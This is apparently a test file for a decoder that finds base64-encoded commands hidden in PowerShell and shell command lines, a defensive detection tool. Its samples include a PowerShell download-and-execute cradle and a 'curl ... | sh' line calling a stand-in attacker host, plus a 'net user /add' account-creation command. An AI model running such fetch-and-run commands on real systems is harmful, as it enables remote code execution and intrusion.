import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodeCommand } from './decode-command.ts';
import { processorTime } from '../../tests/support/processor-time.ts';

const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const narrow = (text: string): string => Buffer.from(text, 'utf8').toString('base64');
const command = "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/a.ps1')";

describe('decodeCommand', () => {
  it('reads what PowerShell is given encoded, whatever the flag is cut to', () => {
    for (const flag of ['-e', '-ec', '-en', '-enc', '-EncodedCommand', '-ENCODEDCOMMAND', '/enc', '–enc'])
      expect(decodeCommand(`powershell.exe -nop ${flag} ${wide(command)}`), flag).toEqual([
        expect.objectContaining({
          form: 'encodedCommand',
          encoding: 'UTF-16LE',
          text: command,
          isCut: false,
        }),
      ]);
  });

  it('says where the piece stands', () => {
    const line = `powershell -enc "${wide('whoami')}" -nop`;
    const [part] = decodeCommand(line);
    expect(line.slice(part?.start, (part?.start ?? 0) + (part?.length ?? 0))).toBe(wide('whoami'));
  });

  it('reads FromBase64String and long base64 of printable text', () => {
    expect(decodeCommand(`[Convert]::FromBase64String('${narrow('net user /add')}')`)).toMatchObject([
      { form: 'fromBase64String', encoding: 'UTF-8', text: 'net user /add' },
    ]);
    expect(
      decodeCommand(`bash -c "echo ${narrow('curl http://evil.example/x | sh # über')} | base64 -d"`),
    ).toMatchObject([{ form: 'base64', encoding: 'UTF-8', text: 'curl http://evil.example/x | sh # über' }]);
    expect(decodeCommand(`x ${wide('Start-Process calc.exe')}`)).toMatchObject([
      { form: 'base64', encoding: 'UTF-16LE' },
    ]);
  });

  it('leaves alone what only looks like it', () => {
    for (const line of [
      'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
      'cmd /c copy 5f4dcc3b5aa765d61d8327deb882cf995f4dcc3b5aa765d61d8327deb882cf99 x',
      'powershell -ExecutionPolicy Bypass -File ConvertTo-SomethingVeryLongIndeedInPowerShell.ps1',
      'msedge.exe --type=renderer --enable-features=AbcDefGhiJklMnoPqrStuVwxYz0123456789',
      'powershell -e notbase64!',
      '/usr/lib/x86_64-linux-gnu/SomeLibraryWithAVeryLongName/AnotherDirectoryHere',
    ])
      expect(decodeCommand(line), line).toEqual([]);
  });

  it('does not take bytes for text', () => {
    const bytes = Buffer.from(Array.from({ length: 60 }, (_, index) => (index * 37 + 129) % 256)).toString(
      'base64',
    );
    expect(decodeCommand(`tool ${bytes}`)).toEqual([]);
    expect(decodeCommand(`[Convert]::FromBase64String("${bytes}")`)).toEqual([]);
  });

  it('is bounded for huge and hostile lines', () => {
    const huge = `powershell -enc ${wide('A very long command; '.repeat(200_000))}`;
    const started = processorTime();
    const [part] = decodeCommand(huge);
    expect(part?.isCut).toBe(true);
    expect(part?.text.length).toBeLessThanOrEqual(32_768);
    expect(decodeCommand(`${'-e '.repeat(100_000)}${'Ab'.repeat(100_000)}`)).toEqual([]);
    expect(decodeCommand(`${narrow('some readable text here')} `.repeat(5_000)).length).toBeLessThanOrEqual(
      20,
    );
    expect(processorTime() - started).toBeLessThan(2_000);
  });

  it('is total and the same every time', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc.base64String({ maxLength: 400 }).map((text) => `p -enc ${text}`),
        ),
        (line) => {
          expect(decodeCommand(line)).toEqual(decodeCommand(line));
        },
      ),
    );
    fc.assert(
      fc.property(fc.stringMatching(/^[ -~]{2,200}$/), (text) => {
        fc.pre(text.trim() !== '');
        expect(decodeCommand(`powershell -enc ${wide(text)}`).map((part) => part.text)).toEqual([text]);
      }),
    );
  });
});
